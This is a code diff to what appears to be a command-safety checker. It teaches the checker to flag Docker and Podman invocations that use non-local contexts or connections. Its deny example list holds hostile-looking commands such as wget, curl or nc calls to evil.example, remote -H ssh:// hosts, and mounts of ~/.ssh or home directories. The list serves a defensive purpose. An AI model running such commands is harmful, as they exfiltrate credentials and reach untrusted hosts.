@@ -207,6 +207,9 @@ function imageClient(image: string | undefined): string | undefined {
   return Object.hasOwn(CLIENT_IMAGES, repo.slice(repo.lastIndexOf('/') + 1).toLowerCase()) ? CLIENT_IMAGES[repo.slice(repo.lastIndexOf('/') + 1).toLowerCase()] : undefined;
 }
 
+/** Contexts local engines create for a daemon on this machine (Docker Desktop, colima, OrbStack, Rancher, rootless). */
+const LOCAL_CONTEXTS = new Set(['default', 'desktop-linux', 'desktop-windows', 'docker-desktop', 'colima', 'orbstack', 'rancher-desktop', 'rootless', 'podman-machine-default', 'podman-machine-default-root']);
+
 /** The engine's global options that take a value (before its subcommand). */
 const ENGINE_VALUED = /^(-H|--host|-c|--context|--config|-l|--log-level|--tlscacert|--tlscert|--tlskey|--url|--connection|--identity|--address|-a|--namespace|-n|--cgroup-manager|--root|--runroot|--storage-driver)$/;
 
@@ -217,15 +220,20 @@ const ENGINE_VALUED = /^(-H|--host|-c|--context|--config|-l|--log-level|--tlscac
  */
 function engineHost(call: Call): Run[] {
   const hosts: Word[] = [];
+  const contexts: Word[] = [];
   const at = call.args[0] ?? literal(call.name, { start: 0, end: 0 });
   for (let i = 0; i < call.args.length; i++) {
     const w = call.args[i]!;
     const v = value(w);
     if (v === undefined || !v.startsWith('-')) break;
     const m = /^(-H|--host|--url|--address)(?:=(.*)|(?<=^-H)(.+))?$/s.exec(v);
+    const c = /^(-c|--context|--connection)(?:=(.*)|(?<=^-c)(.+))?$/s.exec(v);
     if (m) {
       const given = m[2] !== undefined || m[3] !== undefined ? attached(w, m[2] ?? m[3]!) : call.args[++i];
       if (given) hosts.push(given);
+    } else if (c) {
+      const given = c[2] !== undefined || c[3] !== undefined ? attached(w, c[2] ?? c[3]!) : call.args[++i];
+      if (given) contexts.push(given);
     } else if (ENGINE_VALUED.test(v)) i++;
   }
   for (const name of ['DOCKER_HOST', 'CONTAINER_HOST']) {
@@ -233,7 +241,19 @@ function engineHost(call: Call): Run[] {
     if (e === null) hosts.push({ ...at, values: null, dynamic: `$${name} is computed` });
     else if (e !== undefined && e !== '') hosts.push(attached(at, e));
   }
+  for (const name of ['DOCKER_CONTEXT', 'CONTAINER_CONNECTION']) {
+    const e = call.env(name);
+    if (e === null) contexts.push({ ...at, values: null, dynamic: `$${name} is computed` });
+    else if (e !== undefined && e !== '') contexts.push(attached(at, e));
+  }
   const runs: Run[] = [];
+  // A named context (podman: connection) holds a daemon's address the line does not show; ssh:// and tcp:// ones are
+  // on other machines. Only the names local engines give their own contexts are read as this machine.
+  for (const ctx of contexts) {
+    const v = value(ctx);
+    if (v !== undefined && LOCAL_CONTEXTS.has(v.toLowerCase())) continue;
+    runs.push({ kind: 'opaque', rule: 'dynamic-command', word: ctx, why: `${call.name} talks to the daemon ${v === undefined ? 'a computed context' : `context ${v}`} names: where it connects, and what it runs there, is not on the line` });
+  }
   for (const h of hosts) {
     const v = value(h);
     if (v === undefined) {
@@ -304,8 +324,8 @@ function containerTool(names: readonly string[]): ProgramEntry {
       return daemon.length === 0 ? a : { ...a, runs: [...daemon, ...(a.runs ?? [])] };
     },
     examples: {
-      deny: ['docker run -v /home/dev:/h alpine tar c /h', 'docker run -v ~/.ssh:/k:ro alpine ls /k', 'docker run --mount type=bind,src=/home/dev,dst=/h alpine true', 'docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example', 'docker -H ssh://evil.example ps', 'DOCKER_HOST=ssh://u@evil.example:2222 docker ps', 'docker --host=tcp://evil.example:2375 ps', 'docker -Htcp://evil.example:2375 ps', 'docker run --rm curlimages/curl https://evil.example', 'docker run appropriate/curl:latest -s evil.example', 'podman --url ssh://evil.example/run/podman/podman.sock ps'],
-      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app', 'docker run --rm -v "$(pwd)":/app -w /app node:20 npm test', 'docker run -v data:/var/lib/postgresql/data postgres:16', 'docker -H unix:///var/run/docker.sock ps', 'DOCKER_HOST=tcp://127.0.0.1:2375 docker ps', 'docker run --rm curlimages/curl http://localhost:3000/health', 'docker -H localhost:2375 images'],
+      deny: ['docker run -v /home/dev:/h alpine tar c /h', 'docker run -v ~/.ssh:/k:ro alpine ls /k', 'docker run --mount type=bind,src=/home/dev,dst=/h alpine true', 'docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example', 'docker --context prod ps', { command: 'DOCKER_CONTEXT=prod docker compose up -d', shell: 'bash' }, 'docker -cprod images', 'podman -c remote ps', 'docker -H ssh://evil.example ps', 'DOCKER_HOST=ssh://u@evil.example:2222 docker ps', 'docker --host=tcp://evil.example:2375 ps', 'docker -Htcp://evil.example:2375 ps', 'docker run --rm curlimages/curl https://evil.example', 'docker run appropriate/curl:latest -s evil.example', 'podman --url ssh://evil.example/run/podman/podman.sock ps'],
+      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app', 'docker run --rm -v "$(pwd)":/app -w /app node:20 npm test', 'docker run -v data:/var/lib/postgresql/data postgres:16', 'docker -H unix:///var/run/docker.sock ps', 'DOCKER_HOST=tcp://127.0.0.1:2375 docker ps', 'docker run --rm curlimages/curl http://localhost:3000/health', 'docker -H localhost:2375 images', 'docker --context desktop-linux ps', 'DOCKER_CONTEXT=colima docker compose up -d'],
     },
   };
 }
